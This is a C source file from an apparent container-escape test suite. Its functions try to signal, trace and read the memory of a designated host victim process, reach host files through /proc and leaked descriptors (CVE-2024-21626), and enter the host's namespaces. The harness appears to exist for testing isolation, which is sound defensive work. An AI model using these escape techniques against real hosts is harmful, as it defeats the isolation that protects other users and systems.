/* SPDX-License-Identifier: LGPL-2.1-or-later */

#include <dirent.h>
#include <fcntl.h>
#include <linux/nsfs.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

/* Processes and namespaces of the host. The driver's victim is a process of the
 * host's root that has told its number, and where a secret is in its memory. */

/* A process inside may have the same number. */
static int is_victim(pid_t pid) {
        char path[64], name[32] = "";
        int fd;

        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return errno == ENOENT ? -ESRCH : -errno;
        if (read(fd, name, sizeof(name) - 1) < 0)
                *name = 0;
        close(fd);
        if (strncmp(name, "escape-victim", 13) == 0)
                return 1;
        note("that number is another process here");
        return -ESRCH;
}

/* Not there by name, it may still be there by number. */
static int victim(pid_t *ret) {
        pid_t pid = (pid_t) target_number("pid");
        int r;

        if (pid <= 0)
                return ATTACK_IMPOSSIBLE;
        r = is_victim(pid);
        if (r < 0 && kill(pid, 0) == 0)
                return r;
        *ret = pid;
        return -1;
}

#define VICTIM(pid) \
        pid_t pid; \
        { \
                int r_ = victim(&pid); \
                if (r_ != -1) \
                        return r_; \
        }

static int send_signal(void) {
        VICTIM(pid)

        return allowed(kill(pid, SIGUSR1), 0);
}

static int trace(void) {
        VICTIM(pid)

        return allowed(ptrace(PTRACE_SEIZE, pid, NULL, NULL), 0);
}

static int read_memory(void) {
        char text[sizeof(SENTINEL_WORDS)] = "";
        struct iovec local = { text, sizeof(text) - 1 }, remote = { (void *) (uintptr_t) target_number("address"), sizeof(text) - 1 };
        VICTIM(pid)

        if (process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0)
                return -errno;
        return strcmp(text, SENTINEL_WORDS) == 0 ? ATTACK_THROUGH : -ESRCH;
}

static int open_pidfd(void) {
        VICTIM(pid)

        return allowed(syscall(SYS_pidfd_open, pid, 0), 0);
}

static int change_limits(void) {
        VICTIM(pid)

        return allowed(syscall(SYS_prlimit64, pid, 7, NULL, (char[16]) {}), 0);
}

static int change_priority(void) {
        VICTIM(pid)

        return allowed(syscall(SYS_sched_setaffinity, pid, 8, (unsigned long[]) { ~0UL }), 0);
}

/* Goes through /proc: function(path of the process's directory) > 0 ends it. */
static int each_process(int (*function)(const char *dir)) {
        DIR *proc = opendir("/proc");
        int r = -ENOENT;

        if (!proc)
                return -errno;
        for (struct dirent *e; r <= 0 && (e = readdir(proc));) {
                char dir[300];

                if (e->d_name[0] < '0' || e->d_name[0] > '9')
                        continue;
                snprintf(dir, sizeof(dir), "/proc/%s", e->d_name);
                r = function(dir);
        }
        closedir(proc);
        return r;
}

static int looks_through(const char *dir) {
        static const char *const links[] = { "root", "cwd" };

        for (size_t i = 0; i < 2; i++) {
                char path[400];

                snprintf(path, sizeof(path), "%s/%s/", dir, links[i]);
                if (sees_host(AT_FDCWD, path)) {
                        note("%s", path);
                        return ATTACK_THROUGH;
                }
                snprintf(path, sizeof(path), "%s/%s/../../../../../../../../", dir, links[i]);
                if (sees_host(AT_FDCWD, path)) {
                        note("%s", path);
                        return ATTACK_THROUGH;
                }
        }
        return -ENOENT;
}

static int roots_of_processes(void) {
        return each_process(looks_through);
}

/* Descriptors that whoever put us here has left open. Our own are closed by now. */
static int leaked_descriptors(void) {
        for (int fd = 3; fd < 1024; fd++) {
                char path[64], link[256] = "";

                if (fcntl(fd, F_GETFD) < 0)
                        continue;
                snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                if (readlink(path, link, sizeof(link) - 1) < 0)
                        *link = 0;
                note("%d: %s", fd, link);
                return ATTACK_THROUGH;
        }
        return -EBADF;
}

static int leaked_directory(void) {
        if (sees_host(AT_FDCWD, "") || sees_host(AT_FDCWD, "../../../../../../../../../../"))
                return ATTACK_THROUGH;
        return -ENOENT;
}

/* Who gives a file to read has not given it to write. */
static int reopen_input(void) {
        struct stat st;
        int fd;

        if (!target("input-is-file") || fstat(0, &st) < 0 || !S_ISREG(st.st_mode))
                return ATTACK_IMPOSSIBLE;
        fd = open("/proc/self/fd/0", O_RDWR | O_CLOEXEC);
        if (fd < 0)
                return -errno;
        close(fd);
        return ATTACK_THROUGH;
}

/* Namespaces. The driver tells the numbers of the host's. */

static const struct {
        const char *file, *name;
        int type;
} kinds[] = {
        { "mnt", "ns-mnt", CLONE_NEWNS }, { "pid", "ns-pid", CLONE_NEWPID }, { "net", "ns-net", CLONE_NEWNET },
        { "uts", "ns-uts", CLONE_NEWUTS }, { "ipc", "ns-ipc", CLONE_NEWIPC }, { "user", "ns-user", CLONE_NEWUSER },
        { "cgroup", "ns-cgroup", CLONE_NEWCGROUP },
};
#define KINDS (sizeof(kinds) / sizeof(*kinds))

/* Its own namespace that is the host's cannot be left to be entered. */
static int is_hosts(int fd, size_t kind, bool user_too) {
        struct stat st;
        uint64_t number = target_number(kinds[kind].name);

        if (number == 0 || fstat(fd, &st) < 0 || st.st_ino != number)
                return -ENOENT;
        if (setns(fd, kinds[kind].type) < 0 && (user_too || kinds[kind].type != CLONE_NEWUSER))
                return -errno;
        note("the host's %s namespace", kinds[kind].file);
        return ATTACK_THROUGH;
}

static int enters_namespaces(const char *dir) {
        int r = -ENOENT;

        for (size_t i = 0; i < KINDS && r <= 0; i++) {
                char path[400];
                int fd;

                snprintf(path, sizeof(path), "%s/ns/%s", dir, kinds[i].file);
                fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd < 0)
                        continue;
                int s = is_hosts(fd, i, true);
                close(fd);
                if (s != -ENOENT)
                        r = s;
        }
        return r;
}

static int namespaces_of_processes(void) {
        if (target_number("ns-mnt") == 0)
                return ATTACK_IMPOSSIBLE;
        return each_process(enters_namespaces);
}

/* Up from its own namespace to its parent. */
static int parent_namespace(void) {
        static const unsigned long how[] = { NS_GET_PARENT, NS_GET_USERNS };
        static const char *const files[] = { "user", "pid", "mnt" };
        int first = 0;

        for (size_t i = 0; i < 3; i++)
                for (size_t j = 0; j < 2; j++) {
                        char path[64];
                        int fd, up;
                        struct stat st;

                        snprintf(path, sizeof(path), "/proc/self/ns/%s", files[i]);
                        fd = open(path, O_RDONLY | O_CLOEXEC);
                        up = fd < 0 ? -1 : ioctl(fd, how[j]);
                        if (up < 0) {
                                first = first ?: -errno;
                                continue;
                        }
                        if (fstat(up, &st) == 0 && (st.st_ino == target_number("ns-user") || st.st_ino == target_number("ns-pid"))) {
                                note("of %s", files[i]);
                                return ATTACK_THROUGH;
                        }
                }
        return first ?: -EPERM;
}

/* Linux 6.18 opens namespaces by handles, as files. */
static int namespace_by_handle(void) {
#ifndef FD_NSFS_ROOT
#define FD_NSFS_ROOT (-10003)
#endif
        int fd;

        if (!target("ns-handle"))
                return ATTACK_IMPOSSIBLE;
        fd = open_handle(FD_NSFS_ROOT, target("ns-handle"));
        if (fd < 0)
                return fd == -EBADF ? ATTACK_IMPOSSIBLE : fd;
        return is_hosts(fd, 0, true);
}

const Attack attacks_process[] = {
        { "signal", "kill(2)", "a signal to a process of the host", send_signal },
        { "ptrace", "ptrace(2), CVE-2016-9962", "trace a process of the host", trace },
        { "read-memory", "process_vm_readv(2)", "read a secret in the memory of a process of the host", read_memory },
        { "pidfd", "pidfd_open(2)", "a descriptor of a process of the host", open_pidfd },
        { "prlimit", "prlimit(2)", "limits of a process of the host", change_limits },
        { "affinity", "sched_setaffinity(2)", "CPUs of a process of the host", change_priority },
        { "proc-root", "proc_pid_root(5)", "a file of the host through root and cwd of every process", roots_of_processes },
        { "leaked-descriptor", "CVE-2024-21626, CVE-2016-9962", "a descriptor that was left open", leaked_descriptors },
        { "leaked-directory", "CVE-2024-21626", "a working directory outside of the root", leaked_directory },
        { "reopen-input", "proc_pid_fd(5)", "open the file at standard input for writing", reopen_input },
        { "setns", "setns(2)", "enter the host's namespaces through /proc/*/ns", namespaces_of_processes },
        { "parent-namespace", "ioctl_ns(2)", "get the parent of its own namespaces", parent_namespace },
        { "namespace-handle", "open_by_handle_at(2)", "open the host's mount namespace by its number", namespace_by_handle },
        {},
};
